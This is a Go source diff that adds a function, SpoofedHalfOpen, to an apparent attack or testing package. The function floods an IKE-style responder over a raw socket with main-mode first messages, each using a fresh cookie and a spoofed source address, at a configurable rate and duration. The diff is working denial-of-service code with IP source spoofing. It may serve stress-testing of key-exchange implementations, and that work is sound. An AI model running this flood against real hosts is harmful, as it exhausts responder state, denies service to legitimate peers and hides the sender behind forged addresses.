@@ -211,3 +211,36 @@ func flood(ctx context.Context, conn *net.UDPConn, to netip.AddrPort, n int, d t
 	}
 	return st, sendErr
 }
+
+// SpoofedHalfOpen sends n main-mode message 1s offering p to to through
+// the raw socket fd (see Raw), each with a new initiator cookie and a
+// source address taken in turn from srcs: the off-path attacker who
+// cannot see the answers but can make a responder believe that many
+// peers, or one peer it holds a key for, are starting main modes. It
+// sends for at most d (0: no limit) at rate per second (0: as fast as
+// possible) and returns how many it sent.
+func SpoofedHalfOpen(ctx context.Context, fd int, srcs []netip.Addr, to netip.AddrPort, n int, d time.Duration, rate int, p Phase1) (int, error) {
+	if len(srcs) == 0 || (n <= 0 && d <= 0) {
+		return 0, errors.New("attack: a spoofed flood needs sources and a count or a duration")
+	}
+	start := time.Now()
+	pc := pacer{start: start, rate: rate}
+	sent := 0
+	for i := 0; n <= 0 || i < n; i++ {
+		if d > 0 && time.Since(start) >= d {
+			break
+		}
+		if err := pc.wait(ctx, i); err != nil {
+			if errors.Is(err, context.Canceled) || errors.Is(err, context.DeadlineExceeded) {
+				err = nil
+			}
+			return sent, err
+		}
+		pkt := UDPPacket(srcs[i%len(srcs)], to.Addr(), 848, to.Port(), uint16(i), MainMode1(RandomCookie(), p))
+		if _, err := SendRaw(ctx, fd, []Case{{Name: "spoofed message 1", Bytes: pkt}}, 0); err != nil {
+			return sent, err
+		}
+		sent++
+	}
+	return sent, nil
+}
